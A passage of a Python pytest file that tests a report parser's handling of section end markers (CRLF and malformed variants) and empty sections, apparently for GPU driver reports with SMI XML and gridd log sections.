        (GOOD.replace(b"--- end\n", b"--- end\r\n"), None),  # CRLF on the end marker
        (GOOD.replace(b"--- end\n", b"--- ending\n"), "bad_format"),
    ],
)
def test_section_markers_edges(raw: bytes, reason: str | None) -> None:
    if reason is None:
        assert parse_report(raw).uuid == UUID
    else:
        with pytest.raises(ReportError) as e:
            parse_report(raw)
        assert e.value.reason == reason


def test_an_empty_section_has_no_lines() -> None:
    r = parse_report(body(sections=[(SECTION_SMI_XML, XML.decode()), (SECTION_GRIDD_LOG, "")]))
    assert r.events == () and r.smi_format == "xml"
